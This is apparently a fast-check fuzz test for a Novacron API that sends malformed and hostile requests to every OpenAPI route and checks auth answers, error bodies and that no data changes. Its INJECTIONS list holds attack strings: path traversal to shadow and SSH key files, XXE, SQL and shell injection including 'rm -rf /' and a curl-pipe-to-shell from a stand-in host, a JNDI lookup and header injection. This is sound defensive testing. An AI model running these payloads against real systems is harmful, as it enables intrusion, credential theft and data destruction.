/**
 * Property-based conformance and fuzzing of every route in /openapi.json: malformed, oversized and hostile bodies,
 * path parameters, query strings and headers, sent mostly with a valid admin token and otherwise with none, a
 * malformed or unknown one, or a viewer's. Every answer must be one the document declares for the operation, with a
 * body its schema accepts (the app checks each answer against the document, see response-contract.ts); never a 5xx;
 * 401 without valid credentials and 403 below the route's role; every request to a mutating route is invalid by
 * construction and must get a 4xx. Afterwards no table has changed (content hashes; the only audit rows are the
 * viewer's refusals, which are audited by design) and no workflow was started.
 *
 * The seed and the count are fixed so `npm test` is repeatable; a longer run:
 *   NOVACRON_FUZZ_RUNS=20000 NOVACRON_FUZZ_SEED=$RANDOM npm test -- api/fuzz.test.ts
 */
import type { Client, Connection } from '@temporalio/client';
import fc from 'fast-check';
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import pino from 'pino';
import type { NovacronConfig } from '../config/schema';
import { createMetrics, type NovacronMetrics } from '../observability/metrics';
import { recordClusterBoot } from '../store/cluster-boots';
import { createTestDatabase, temporalClient, testConfig, type TestDatabase } from '../test/support/services';
import { bearer, mintToken } from '../test/support/tokens';
import { buildApp, type BuiltApp } from './app';
import type { Role } from './auth';

const RUNS = Number(process.env.NOVACRON_FUZZ_RUNS ?? 1000);
const SEED = Number(process.env.NOVACRON_FUZZ_SEED ?? 20261122);
const MUTATING = new Set(['POST', 'PUT', 'PATCH', 'DELETE']);

let db: TestDatabase;
let config: NovacronConfig;
let built: BuiltApp;
let client: Client;
let connection: Connection;
let metrics: NovacronMetrics;
let token: string;
let viewerToken: string;

before(async () => {
  db = await createTestDatabase();
  config = testConfig({
    databaseUrl: db.url,
    // The fuzzer is one token sending thousands of requests; the rate limit has its own test.
    overrides: { security: { rateLimit: { burst: 1_000_000, refillPerSecond: 1_000_000 } } },
  });
  ({ client, connection } = await temporalClient());
  metrics = createMetrics({ service: 'fuzz-test' });
  built = await buildApp({
    config,
    temporal: client,
    pool: db.pool,
    metrics,
    logger: pino({ level: 'silent' }),
    checkResponses: true,
  });
  token = await mintToken(db.pool, { roles: ['admin'], name: 'fuzzer' });
  viewerToken = await mintToken(db.pool, { roles: ['viewer'], name: 'fuzz-viewer' });
  // A completed boot makes /ready answer 200; its 503 is a readiness answer, not a server error.
  await recordClusterBoot(db.pool, {
    workflowId: 'fuzz-boot',
    nodeId: config.system.nodeId,
    status: 'ready',
    report: {},
  });
});

after(async () => {
  await built.close();
  await connection.close();
  await db.drop();
});

interface Route {
  method: string;
  template: string;
  /** Undefined for a public route (and for a URL that matches no route). */
  role: Role | undefined;
  pathParams: string[];
  queryParams: string[];
  bodyFields: string[] | undefined;
}

// None of these may appear in an id, a name or a path segment, so a string holding one is always invalid there.
const FORBIDDEN = ['/', '\\', '<', '>', '&', "'", '"', ';', '$', '(', ')', '|', '`', ' ', '\n', '\u0000', '{', '}'];
const forbiddenChar = fc.constantFrom(...FORBIDDEN, '*', '?', '!', '#', '~', '^', '[', ']', '\u202e', '\r');

const INJECTIONS = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fshadow',
  '/var/lib/libvirt/images/../../../root/.ssh/id_rsa',
  "vm1</name><devices><disk type='file'><source file='/etc/shadow'/></disk></devices><name>x",
  '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
  ']]><evil/><![CDATA[',
  '$(reboot)',
  '`id`',
  'vm; rm -rf / #',
  'a && curl evil.invalid | sh',
  "' OR '1'='1' --",
  "'); DROP TABLE vms; --",
  '${jndi:ldap://evil.invalid/a}',
  '{{7*7}} %s%n%x',
  'name\u0000.qcow2',
  'line\r\nX-Injected: 1',
];

/** Always contains a forbidden character, so it can never pass a safe-pattern check. */
const hostileString = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.tuple(fc.string({ maxLength: 24 }), forbiddenChar, fc.string({ maxLength: 24 })).map((p) => p.join('')),
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.constantFrom(true, false, null, -1, 0, 2 ** 53, Number.MAX_VALUE, '', 'A'.repeat(100_000)),
  fc.array(hostileString, { maxLength: 5 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

function jsonObject(entries: Array<[string, unknown]>): string {
  // Built by hand so that keys like __proto__ reach the server as keys, not as a prototype.
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(',')}}`;
}

interface FuzzRequest {
  url: string;
  payload?: string;
  headers: Record<string, string>;
  credential: Credential;
  what: string;
}

type Credential = 'admin' | 'viewer' | 'none' | 'malformed' | 'unknown';
const RANK: Record<Role, number> = { viewer: 1, operator: 2, admin: 3 };

/** Mostly the admin, whose requests reach validation; the rest are refused by the auth hook, and must say so. */
const credential = fc.oneof(
  { weight: 12, arbitrary: fc.constant<Credential>('admin') },
  { weight: 1, arbitrary: fc.constantFrom<Credential>('viewer', 'none', 'malformed', 'unknown') },
);

function authorization(kind: Credential): Record<string, string> {
  if (kind === 'admin') return bearer(token);
  if (kind === 'viewer') return bearer(viewerToken);
  if (kind === 'malformed') return { authorization: 'Basic YWRtaW46YWRtaW4=' };
  if (kind === 'unknown') return bearer('nvc_0000000000000000.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
  return {};
}

/** `{}` or `null` could be a valid body (an init with defaults); random text must never be one. */
function parsesToObjectOrNull(text: string): boolean {
  try {
    const value: unknown = JSON.parse(text);
    return value === null || (typeof value === 'object' && !Array.isArray(value));
  } catch {
    return false;
  }
}

function bodyCase(route: Route): fc.Arbitrary<{ payload: string; contentType: string; what: string }> {
  const known = route.bodyFields ?? [];
  const unknownKey = fc.oneof(
    fc.constantFrom('__proto__', 'constructor', 'isAdmin', 'roles', 'owner', 'role'),
    fc.string({ minLength: 1, maxLength: 30 }),
  );
  const json = 'application/json';
  return fc.oneof(
    // Known fields with hostile values, plus one field the schema does not have: strict objects refuse it.
    fc
      .tuple(
        fc.subarray(known).chain((keys) => fc.tuple(...keys.map((k) => hostileValue.map((v) => [k, v] as const)))),
        unknownKey.filter((k) => !known.includes(k)),
        hostileValue,
      )
      .map(([fields, key, value]) => ({
        payload: jsonObject([...fields.map(([k, v]): [string, unknown] => [k, v]), [key, value]]),
        contentType: json,
        what: `object with unknown field ${JSON.stringify(key)}`,
      })),
    fc
      .constantFrom(
        '{"a":',
        "{'a':1}",
        '[',
        '{"a":1}}',
        '\u0000',
        '{"a":NaN}',
        '{"__proto__":{"x":1}}',
        '[]',
        '"s"',
        '42',
      )
      .map((payload) => ({ payload, contentType: json, what: `malformed or non-object JSON ${payload}` })),
    // Deep nesting as text: the parser and the validator must refuse it without exhausting the stack.
    fc.integer({ min: 1000, max: 20_000 }).map((depth) => ({
      payload: `{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`,
      contentType: json,
      what: `nesting ${depth} deep`,
    })),
    fc
      .string({ minLength: 1, maxLength: 200 })
      .filter((text) => !parsesToObjectOrNull(text))
      .map((payload) => ({ payload, contentType: json, what: 'random text' })),
    fc.integer({ min: 1, max: 4096 }).map((extra) => ({
      payload: jsonObject([['requestId', 'x'.repeat(config.api.bodyLimitBytes + extra)]]),
      contentType: json,
      what: 'oversized body',
    })),
    fc
      .constantFrom('text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data')
      .map((contentType) => ({ payload: INJECTIONS[4]!, contentType, what: `content type ${contentType}` })),
  );
}

function requestCase(route: Route): fc.Arbitrary<FuzzRequest> {
  const mutating = MUTATING.has(route.method);
  // A mutating route is fuzzed with an invalid body when it takes one, otherwise with an invalid path parameter.
  const mustBreakPath = mutating && route.bodyFields === undefined;
  const params = fc
    .tuple(
      ...route.pathParams.map((name) =>
        fc
          .oneof(hostileString, fc.constantFrom('probe-1', '00000000-0000-4000-8000-000000000000'))
          .map((v) => [name, v]),
      ),
    )
    .filter((values) => !mustBreakPath || values.some(([, v]) => /[^A-Za-z0-9_.:-]/.test(v!)));
  const query = fc.oneof(
    fc.constant(''),
    fc
      .array(
        fc.tuple(
          fc.oneof(fc.constantFrom(...route.queryParams, '__proto__', 'limit'), fc.string({ maxLength: 12 })),
          hostileValue,
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((pairs) =>
        pairs
          .map(
            ([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(typeof v === 'string' ? v : JSON.stringify(v))}`,
          )
          .join('&'),
      ),
    fc.constantFrom('%zz', 'a[b]=1&a[c]=2', '__proto__[admin]=1', 'limit=1&limit=2', '&&&=', 'x=%00'),
  );
  const headers = fc.record(
    { 'x-request-id': hostileString, 'idempotency-key': fc.oneof(hostileString, fc.constant('fuzz-key-1')) },
    { requiredKeys: [] },
  );
  const body = mutating ? (mustBreakPath ? fc.constant(undefined) : bodyCase(route)) : fc.constant(undefined);
  return fc.tuple(params, query, headers, body, credential).map(([values, qs, extraHeaders, b, kind]) => {
    let path = route.template;
    for (const [name, value] of values) path = path.replace(`{${name}}`, encodeURIComponent(value!));
    const url = qs ? `${path}?${qs}` : path;
    return {
      url,
      ...(b ? { payload: b.payload } : {}),
      headers: { ...extraHeaders, ...(b ? { 'content-type': b.contentType } : {}), ...authorization(kind) },
      credential: kind,
      what: `${route.method} ${url.slice(0, 160)} as ${kind} ${b?.what ?? ''}`,
    };
  });
}

/** Every table but audit_log, whose new rows are checked one by one. */
async function tableHashes(): Promise<Record<string, string>> {
  const tables = await db.pool.query<{ name: string }>(
    "SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' AND table_name <> 'audit_log' ORDER BY 1",
  );
  const hashes: Record<string, string> = {};
  for (const { name } of tables.rows) {
    const result = await db.pool.query<{ n: number; h: string | null }>(
      `SELECT count(*)::int AS n, md5(string_agg(t::text, ',' ORDER BY t::text)) AS h FROM "${name}" t`,
    );
    hashes[name] = `${result.rows[0]!.n}:${result.rows[0]!.h ?? ''}`;
  }
  return hashes;
}

async function workflowStarts(): Promise<number> {
  const metric = await metrics.workflowStarts.get();
  return metric.values.reduce((sum, v) => sum + v.value, 0);
}

test(`fuzz every route (${RUNS} runs, seed ${SEED}): answers the document declares, nothing written`, async () => {
  const doc = (await built.app.inject({ method: 'GET', url: '/openapi.json', headers: bearer(token) })).json<{
    paths: Record<
      string,
      Record<
        string,
        {
          'x-novacron-role'?: Role;
          parameters?: Array<{ in: string; name: string }>;
          requestBody?: { content: Record<string, { schema: { properties?: Record<string, unknown> } }> };
        }
      >
    >;
  }>();
  const routes: Route[] = Object.entries(doc.paths).flatMap(([template, ops]) =>
    Object.entries(ops).map(([method, op]) => ({
      method: method.toUpperCase(),
      template,
      role: op['x-novacron-role'],
      pathParams: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name),
      queryParams: (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
      bodyFields: op.requestBody
        ? Object.keys(op.requestBody.content['application/json']?.schema.properties ?? {})
        : undefined,
    })),
  );
  for (const route of routes.filter((r) => MUTATING.has(r.method))) {
    assert.ok(
      route.bodyFields !== undefined || route.pathParams.length > 0,
      `${route.method} ${route.template} takes neither a body nor a path parameter, so no request to it is invalid`,
    );
  }
  // Hostile URLs that match no route at all.
  const strayUrls = fc.constantFrom(
    '/v1/../v1/tokens',
    '//v1//tokens',
    '/v1/tokens/%2e%2e%2f%2e%2e%2f',
    '/v1/%',
    `/v1/${'a'.repeat(10_000)}`,
    '/v1/vms/%00',
    '/%E0%A4%A',
  );

  const before = await tableHashes();
  const lastAuditId = Number((await db.pool.query('SELECT coalesce(max(id), 0) AS id FROM audit_log')).rows[0].id);
  const startsBefore = await workflowStarts();
  const responses = new Map<number, number>();
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        {
          weight: 9,
          arbitrary: fc.constantFrom(...routes).chain((route) => requestCase(route).map((r) => ({ route, r }))),
        },
        {
          weight: 1,
          arbitrary: fc
            .tuple(strayUrls, fc.constantFrom('GET', 'POST', 'DELETE'), credential)
            .map(([url, method, kind]): { route: Route; r: FuzzRequest } => ({
              route: { method, template: url, role: undefined, pathParams: [], queryParams: [], bodyFields: undefined },
              r: {
                url,
                headers: authorization(kind),
                credential: kind,
                what: `${method} ${url.slice(0, 80)} as ${kind}`,
              },
            })),
        },
      ),
      async ({ route, r }) => {
        const response = await built.app.inject({
          method: route.method,
          url: r.url,
          headers: r.headers,
          ...(r.payload !== undefined ? { payload: r.payload } : {}),
        });
        const status = response.statusCode;
        responses.set(status, (responses.get(status) ?? 0) + 1);
        // The app's own check turns an answer the document does not declare into a 500 that says so.
        assert.ok(status < 500, `${r.what} -> ${status} ${response.body.slice(0, 300)}`);
        if (r.credential === 'admin') {
          assert.ok(![401, 403, 429].includes(status), `${r.what} -> ${status}: the admin token must pass`);
        } else if (route.role && r.credential !== 'viewer') {
          assert.equal(status, 401, `${r.what}: no valid credentials`);
        } else if (route.role && RANK[route.role] > RANK.viewer) {
          assert.equal(status, 403, `${r.what}: below ${route.role}`);
        }
        if (MUTATING.has(route.method)) {
          assert.ok(status >= 400, `${r.what} is invalid but got ${status} ${response.body.slice(0, 300)}`);
        }
        if (status >= 400) {
          const body = response.json<{ error: string; message: string; requestId: string }>();
          assert.ok(body.error && body.message && body.requestId, `${r.what}: error body ${response.body}`);
        }
      },
    ),
    { seed: SEED, numRuns: RUNS, endOnFailure: true },
  );
  assert.deepEqual(await tableHashes(), before, 'no table changed');
  const audited = await db.pool.query<{ actor: string; outcome: string; status: number }>(
    "SELECT DISTINCT actor, outcome, (details->>'status')::int AS status FROM audit_log WHERE id > $1",
    [lastAuditId],
  );
  assert.deepEqual(
    audited.rows,
    audited.rows.length > 0 ? [{ actor: 'token:fuzz-viewer', outcome: 'rejected', status: 403 }] : [],
    'the only audit rows are refusals of the viewer (a 403 is audited: a known actor was refused)',
  );
  assert.equal(await workflowStarts(), startsBefore, 'no workflow was started');
  assert.ok((responses.get(400) ?? 0) > RUNS / 4, `mostly validation failures: ${JSON.stringify([...responses])}`);
  assert.ok(
    [401, 403, 413, 415].every((s) => responses.has(s)),
    `credentials, size and media type limits hit: ${JSON.stringify([...responses])}`,
  );
});
